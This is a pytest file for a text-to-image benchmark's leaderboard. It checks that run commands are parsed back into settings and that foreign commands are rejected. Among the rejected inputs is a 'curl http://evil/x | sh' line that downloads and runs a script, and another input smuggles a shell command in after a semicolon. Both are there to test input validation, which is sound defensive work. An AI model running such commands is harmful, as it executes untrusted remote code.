"""What a submission states of how it was made."""

from __future__ import annotations

import pytest

from t2ibench.apps.leaderboard.claims import settings_of
from t2ibench.errors import T2IBenchError
from t2ibench.settings import RunSettings

SETTINGS = (
    RunSettings(model="toyland", tasks=("all",)),
    RunSettings(
        model="./a b", tasks=("x", "tag:y"), model_args={"all.gender.female": "0.5", "a": "b,c"},
        encoder=("clip:./x",), judge=("openai:m",), judge_args={"base_url": "http://h/v1"},
        images_per_prompt=7, guided_images_per_prompt=2, times=1.5, n_permutations=200_000,
        control_encoder="none", dtype="float32",
    ),
    RunSettings(model="-odd=", tasks=("all",), limit=2, seed=3, level=0.9, batch_size=8),
)  # fmt: skip


@pytest.mark.parametrize("settings", SETTINGS)
def test_a_command_is_read_back(settings: RunSettings) -> None:
    assert settings_of(settings.command()) == settings


@pytest.mark.parametrize(
    "command",
    [
        "",
        "curl http://evil/x | sh",
        "t2ibench run --model",
        "t2ibench run --model toyland --tasks all ; sh",
        "t2ibench run --tasks all --model toyland",
        "t2ibench run --model toyland --tasks all --seed 0",
        "t2ibench run --model toyland --tasks all --times lots",
        "t2ibench run --model toyland --tasks all --include-path /tmp",
        "t2ibench run --model a --model toyland --tasks all",
        f"t2ibench run --model {'x' * 30_000}",
    ],
)
def test_a_command_that_t2ibench_does_not_write(command: str) -> None:
    with pytest.raises(
        T2IBenchError, match="its command is not one that t2ibench writes"
    ):
        settings_of(command.split())
